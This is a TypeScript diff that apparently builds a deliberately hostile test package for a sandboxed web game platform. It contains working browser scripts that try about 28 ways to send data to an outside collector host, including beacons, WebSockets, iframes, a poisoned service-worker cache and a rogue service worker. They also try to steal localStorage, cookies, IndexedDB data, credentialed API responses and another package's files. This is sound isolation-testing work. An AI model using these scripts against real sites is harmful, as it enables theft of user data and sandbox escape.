@@ -1,0 +1,163 @@
+import type { StagedFiles } from '../content-stage/staged-resource.ts'
+
+// What a package that means harm would try. Each attack reports by the games' own protocol whether it got something; what leaves the
+// browser is seen by the collector.
+
+/** Ways to carry something out of the page; each one asks the collector for an address that names it. */
+export const CHANNELS = [
+  'fetch',
+  'fetch-keepalive',
+  'xhr',
+  'beacon',
+  'image',
+  'script',
+  'module',
+  'stylesheet',
+  'css-image',
+  'font',
+  'form',
+  'iframe',
+  'nested-navigation',
+  'meta-refresh',
+  'websocket',
+  'eventsource',
+  'prefetch',
+  'preload',
+  'ping',
+  'media',
+  'embed',
+  'worker',
+  'blob-document',
+  'data-document',
+  'srcdoc',
+  'error-document',
+  'poisoned-shell',
+  'without-worker',
+] as const
+
+const out = (collector: string, channel: string) => `${collector}/out?channel=${channel}`
+
+/** Scripts of the channels, each with the address it is to reach in `u`. */
+const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
+  fetch: 'fetch(u).catch(() => {})',
+  'fetch-keepalive': 'fetch(u, { keepalive: true, mode: "no-cors" }).catch(() => {})',
+  xhr: 'const x = new XMLHttpRequest(); x.open("GET", u); x.send()',
+  beacon: 'navigator.sendBeacon(u)',
+  image: 'new Image().src = u',
+  script: 'add("script", { src: u })',
+  module: 'import(u).catch(() => {})',
+  stylesheet: 'add("link", { rel: "stylesheet", href: u })',
+  'css-image': 'document.body.style.backgroundImage = "url(" + u + ")"',
+  font: 'new FontFace("F", "url(" + u + ")").load().catch(() => {})',
+  form: 'add("form", { action: u, method: "post", target: frame().name }).submit()',
+  iframe: 'frame().src = u',
+  'nested-navigation': 'const n = frame("about:blank"); n.contentWindow.location = u',
+  'meta-refresh': 'frame().srcdoc = "<meta http-equiv=refresh content=\\"0;url=" + u + "\\">"',
+  websocket: 'new WebSocket(u.replace("http", "ws"))',
+  eventsource: 'new EventSource(u)',
+  prefetch: 'add("link", { rel: "prefetch", href: u })',
+  preload: 'add("link", { rel: "preload", as: "image", href: u })',
+  ping: 'const a = add("a", { href: "#", ping: u }); a.click()',
+  media: 'add("video", { src: u, preload: "auto" })',
+  embed: 'add("object", { data: u, type: "image/gif" })',
+  worker: 'new Worker(URL.createObjectURL(new Blob(["fetch(\\"" + u + "\\").catch(() => {})"])))',
+  'blob-document': 'frame(URL.createObjectURL(new Blob([doc(u)], { type: "text/html" })))',
+  'data-document': 'frame("data:text/html," + encodeURIComponent(doc(u)))',
+  srcdoc: 'frame().srcdoc = doc(u)',
+  'error-document': 'errorDocuments(u)',
+  'poisoned-shell': 'poisonShell(u)',
+  'without-worker':
+    'settle(1500).then(() => navigator.serviceWorker.ready).then((r) => r.unregister()).then(() => errorDocuments(u))',
+}
+
+const TOOLS = `
+const add = (name, attributes) => { const e = Object.assign(document.createElement(name), attributes); document.body.append(e); return e }
+let frames = 0
+const frame = (src) => add('iframe', { name: 'frame' + frames++, ...(src && { src }) })
+const doc = (u) => '<img src="' + u + '"><script>fetch("' + u + '").catch(()=>{})<\\/script>'
+const settle = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
+const within = (promise, ms) => Promise.race([promise, settle(ms).then(() => { throw new Error('late') })])
+/** Documents of this origin that no page was meant to be: whichever lacks the policy is a way out. */
+function errorDocuments(u) {
+  const paths = ['/nowhere', '/c/nowhere/x', '/%', '/t/x/c/y/z', '/runtime/none.js', '/sw.js', '/wipe.js', '/' + 'long'.repeat(20000), '/play.html?' + 'q'.repeat(60000)]
+  for (const path of paths) {
+    const f = frame(path)
+    f.onload = () => { try { f.contentWindow.eval('fetch("' + u + '").catch(()=>{})') } catch {} }
+  }
+}
+/** Puts a page without the policy where the worker keeps its own. */
+async function poisonShell(u) {
+  const shell = new URL('../../play.html', location.href).href
+  for (const name of await caches.keys()) await (await caches.open(name)).put(shell, new Response(doc(u), { headers: { 'Content-Type': 'text/html' } }))
+  frame(shell + '?again') // a frame may not hold a page that holds it
+}`
+
+/** What an attack finds counts when it is the app's, another package's, or power over either. */
+export const THEFTS = [
+  'app-local-storage',
+  'app-database',
+  'app-caches',
+  'app-cookie',
+  'app-document',
+  'app-api-with-credentials',
+  'other-package-files',
+  'other-package-storage',
+  'popup',
+  'worker-takeover',
+] as const
+
+const THEFT_SCRIPT = `
+async function databaseNames() { return (await indexedDB.databases()).map((d) => d.name) }
+const thefts = {
+  'app-local-storage': async () => [localStorage, top.localStorage, parent.parent.localStorage].some((s) => s.getItem('app-secret')),
+  'app-database': async () => (await databaseNames()).includes('app-database'),
+  'app-caches': async () => (await caches.keys()).some((name) => name.startsWith('app-cache')),
+  'app-cookie': async () => document.cookie.includes('secret-cookie'),
+  'app-document': async () => (top.document.title, true),
+  'app-api-with-credentials': async () => (await (await fetch(APP + '/rest/currentuser', { credentials: 'include' })).json()).name === 'Marina',
+  'other-package-files': async () => {
+    const read = (url) => fetch(url).then((answer) => answer.text(), () => '')
+    const texts = await Promise.all([OTHER + '/c/other/secret.txt', '/c/other/secret.txt', '../other/secret.txt'].map(read))
+    return texts.some((text) => text.includes('other secret'))
+  },
+  'other-package-storage': async () => {
+    const f = frame(OTHER + '/play.html')
+    await within(new Promise((resolve) => { f.onload = resolve }), 1500)
+    return f.contentWindow.localStorage.getItem('save') === 'other save'
+  },
+  popup: async () => { const w = window.open(COLLECTOR + '/out?channel=popup'); return Boolean(w) },
+  'worker-takeover': async () => {
+    const registration = await within(navigator.serviceWorker.register(new URL('evil-sw.js', location.href).href), 2000)
+    return Boolean(registration)
+  },
+}`
+
+const page = (body: string) =>
+  `<!doctype html><meta charset="utf-8"><title>Attack</title><body><script>${TOOLS}\n${body}</script></body>`
+
+export type AttackTargets = { app: string; other: string; collector: string }
+
+/** The package; `steal.html` and `out.html` report with a finish, the others act and are seen by the collector alone. */
+export function attackPackage({ app, other, collector }: AttackTargets): StagedFiles {
+  const names = `const APP = ${JSON.stringify(app)}, OTHER = ${JSON.stringify(other)}, COLLECTOR = ${JSON.stringify(collector)}`
+  const channels = CHANNELS.map(
+    (channel) =>
+      `try { (() => { const u = ${JSON.stringify(out(collector, channel))}; ${CHANNEL_SCRIPTS[channel]} })() } catch {}`,
+  )
+  const report = "parent.postMessage({ vereda: 'finish', objectData: got }, '*')"
+  return {
+    'steal.html': page(`${names}
+${THEFT_SCRIPT}
+const got = []
+for (const [name, attempt] of Object.entries(thefts)) {
+  try { if (await_(await attempt())) got.push(name) } catch {}
+}
+${report}
+function await_(value) { return value }`).replace('<script>', '<script type="module">'),
+    'out.html': page(`${names}\nconst got = []\n${channels.join('\n')}\nsetTimeout(() => ${report}, 4000)`),
+    'navigate-self.html': page(`location = ${JSON.stringify(out(collector, 'own-frame'))}`),
+    'navigate-player.html': page(`parent.location = ${JSON.stringify(out(collector, 'player-frame'))}`),
+    'navigate-top.html': page(`try { top.location = ${JSON.stringify(out(collector, 'top'))} } catch {}`),
+    'evil-sw.js': "addEventListener('fetch', (event) => event.respondWith(new Response('taken over')))",
+  }
+}
